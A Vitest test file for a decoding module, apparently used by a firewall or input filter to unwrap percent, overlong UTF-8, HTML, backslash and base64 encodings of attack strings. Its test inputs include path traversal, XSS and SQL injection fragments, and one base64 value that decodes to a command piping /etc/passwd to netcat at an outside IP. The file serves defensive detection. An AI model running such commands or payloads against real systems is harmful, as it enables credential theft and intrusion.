import { describe, expect, it } from 'vitest';
import { backslashDecode, base64Text, fold, htmlDecode, normalise, percentDecode } from './decode.js';

describe('normalise', () => {
  it('percent-decodes until stable: single, double and triple encoding', () => {
    expect(normalise('%2e%2e%2f')).toBe('../');
    expect(normalise('%252e%252e%252f')).toBe('../');
    expect(normalise('%25252e')).toBe('.');
  });

  it('decodes %uXXXX', () => {
    expect(normalise('%u003cscript%u003e')).toBe('<script>');
    expect(percentDecode('%u002E')).toBe('.');
  });

  it('decodes overlong UTF-8 to the character it encodes', () => {
    expect(normalise('%c0%ae%c0%ae%c0%af')).toBe('../');
    expect(normalise('%c1%9c')).toBe('\\');
    expect(normalise('%e0%80%ae')).toBe('.');
    expect(normalise('?.%f8%80%80%80%af?.%f8%80%80%80%afetc%f8%80%80%80%afissue')).toBe('?./?./etc/issue');
    // A lead byte that is always overlong, followed by a plain byte, as masking decoders read it.
    expect(normalise('%c0%2e%c0%2e')).toBe('..');
    // Proper UTF-8 stays what it is.
    expect(normalise('caf%c3%a9')).toBe('café');
  });

  it('reads + as a space', () => {
    expect(normalise('1+union+select')).toBe('1 union select');
  });

  it('decodes HTML character references, with and without the semicolon', () => {
    expect(htmlDecode('a&#46;jpg http&#58;//victimsite&#46;com')).toBe('a.jpg http://victimsite.com');
    expect(htmlDecode('&#x3c;&lt;&#0000060')).toBe('<<<');
    expect(htmlDecode('&colon;&sol;')).toBe(':/');
    expect(htmlDecode('fish&chips')).toBe('fish&chips');
  });

  it('decodes backslash escapes', () => {
    expect(backslashDecode("'sleep\\x0911\\x09")).toBe("'sleep\t11\t");
    expect(backslashDecode('\\u0027')).toBe("'");
    expect(normalise("stuff='sleep\\x0911\\x09")).toBe("stuff='sleep 11 ");
  });

  it('folds case, white space and SQL comments; a versioned comment keeps its text', () => {
    expect(fold('1/**/UNION/**/SELECT')).toBe('1 union select');
    expect(fold('1 /*!50000UNION*/ /*!SELECT*/')).toBe('1 union select ');
    expect(fold('a\t  b')).toBe('a b');
    // A line break stays one: a shell runs what follows it.
    expect(fold('a\t\n  b')).toBe('a\nb');
    expect(normalise('UnIoN%0aSeLeCt')).toBe('union\nselect');
    expect(normalise('%3C%00script%3E')).toBe('<script>');
  });

  it('decodes layers of different encodings', () => {
    expect(normalise('%26%2360%3Bscript%26%2362%3B')).toBe('<script>');
    expect(normalise('%5Cx3cscript%5Cx3e')).toBe('<script>');
  });

  it('leaves text without encodings as it is (folded)', () => {
    expect(normalise('Hello World')).toBe('hello world');
    expect(normalise('100%')).toBe('100%');
    expect(normalise('%zz')).toBe('%zz');
  });
});

describe('base64Text', () => {
  it('decodes base64 and base64url values, padded, unpadded or percent-encoded, to their text', () => {
    expect(base64Text('PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==')).toBe('<script>alert(1)</script>');
    expect(base64Text('PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg')).toBe('<script>alert(1)</script>');
    expect(base64Text('PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D')).toBe('<script>alert(1)</script>');
    expect(base64Text('Y2F0IC9ldGMvcGFzc3dkIHwgbmMgMS4yLjMuNCA4MA')).toBe('cat /etc/passwd | nc 1.2.3.4 80');
    expect(base64Text('P3E9YWJjJnQ9MT8_Pz4-')).toBe('?q=abc&t=1???>>');
  });

  it('leaves tokens, hashes, ids, words and short values alone', () => {
    for (const v of [
      'd41d8cd98f00b204e9800998ecf8427e',
      'k3JpX9qLm2ZtR7vB1nYw0sUe',
      'electronicsaccessories',
      'aGVsbG8=',
      '550e8400-e29b-41d4-a716-446655440000',
      'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==&x',
    ]) {
      expect(base64Text(v), v).toBeUndefined();
    }
  });
});
